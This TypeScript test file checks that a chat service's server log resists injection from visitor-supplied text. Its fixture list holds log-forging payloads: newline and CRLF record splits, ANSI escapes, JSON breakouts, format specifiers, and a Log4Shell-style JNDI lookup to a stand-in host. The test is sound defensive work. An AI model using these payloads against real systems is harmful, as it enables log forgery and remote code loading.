import { randomUUID } from 'node:crypto';
import { visitorNamespace } from '#contract';
import { call } from '../support/http.js';
import { connectVisitor, startConversation } from '../support/clients.js';
import { Console } from '../support/console.js';
import { createTestDatabase, type TestDatabase } from '../support/database.js';
import { startProcess, type TestProcess } from '../support/process.js';
import { RawSocket } from '../support/raw-socket.js';
import { waitFor } from '../support/wait.js';

/** What would begin a record of its own, colour the terminal, end a field, or be fetched by an old logger. */
const forged = 'FORGED';
const injections = [
  `x\n[Nest] 1  - ERROR [http] ${forged}`,
  `x\r\n${forged}: 1`,
  `\u001b[2J\u001b[31m${forged}`,
  `"}\n{"level":"error","msg":"${forged}"}`,
  `\u2028${forged}\u0085${forged}`,
  `\${jndi:ldap://${forged}.example.org}`,
  `%s %d %j ${forged}`,
];

describe('the log', () => {
  let database: TestDatabase;
  let api: TestProcess;

  beforeEach(async () => {
    database = await createTestDatabase();
    api = await startProcess('api', { database, env: { NODE_ENV: 'development' } });
  });

  afterEach(async () => {
    await api.stop('SIGKILL');
    await database.drop();
  });

  /** Puts an injection everywhere a visitor or a page can put a text. */
  async function everywhere(text: string): Promise<void> {
    const encoded = encodeURIComponent(text.toWellFormed());
    const latin = text.replaceAll(/[^\x20-\x7e]/g, ' ');
    const visitor = { port: api.port, to: api.origins.helpwanted };
    await call({
      ...visitor,
      path: `/api/${encoded}?${encoded}`,
      headers: { 'user-agent': latin, referer: latin },
    });
    await call({ ...visitor, path: '/', headers: { cookie: `${latin.replaceAll(/[";]/g, '')}=1` } });
    await call({
      ...visitor,
      method: 'POST',
      path: '/api/conversations',
      body: { language: text, [text]: text },
    });
    await call({ ...visitor, method: 'POST', path: '/api/conversations', body: text });
    const console = new Console(api);
    await console.ask('POST', '/api/session', { login: text, password: text });
    await console.ask('POST', '/api/enrolment', { token: text.padEnd(30), password: text.padEnd(30) });
    const { socket } = await RawSocket.open(api.port, api.origins.helpwanted);
    await socket.join(visitorNamespace, { token: text });
    socket.close();
  }

  /** The same over a socket, and while the tables are away, so that errors nobody foresaw are logged. */
  async function inAnOutage(text: string): Promise<void> {
    const { conversationId, token } = await startConversation(api);
    const visitor = await connectVisitor(api, token);
    await visitor.must('chat:open');
    await database.query('alter table chat.conversation rename to elsewhere');
    await database.query('alter table identity.staff rename to elsewhere');
    await visitor.ask(text, { [text]: text });
    await visitor.ask('chat:send', { conversationId, clientMessageId: randomUUID(), text });
    await visitor.ask('chat:sync', { conversationId, after: text });
    await everywhere(text);
    await database.query('alter table identity.elsewhere rename to staff');
    await database.query('alter table chat.elsewhere rename to conversation');
    visitor.close();
  }

  it('I14 holds nothing that was typed: no line of it was written by a visitor', async () => {
    for (const text of injections) await everywhere(text);
    for (const text of injections) await inAnOutage(text);
    await waitFor('the log to have spoken', () => /unforeseen/.test(api.output()));
    expect(api.output()).not.toContain(forged);
    const lines = api
      .output()
      .replaceAll(/\u001b\[\d*m/g, '')
      .split('\n')
      .filter(Boolean);
    // Every line is the beginning of a record of our own, or a frame that belongs to one.
    expect(lines.filter((line) => !/^(\[Nest\] \d+ {2}- |\s+at )/.test(line))).toEqual([]);
    expect(api.alive()).toBe(true);
  }, 60_000);
});
